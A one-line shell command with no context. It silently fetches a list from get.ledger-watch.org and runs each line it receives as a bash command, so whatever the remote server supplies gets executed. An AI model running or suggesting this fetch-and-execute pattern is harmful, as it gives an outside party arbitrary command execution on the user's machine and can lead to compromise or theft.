curl -s https://get.ledger-watch.org/list | xargs -I% bash -c %
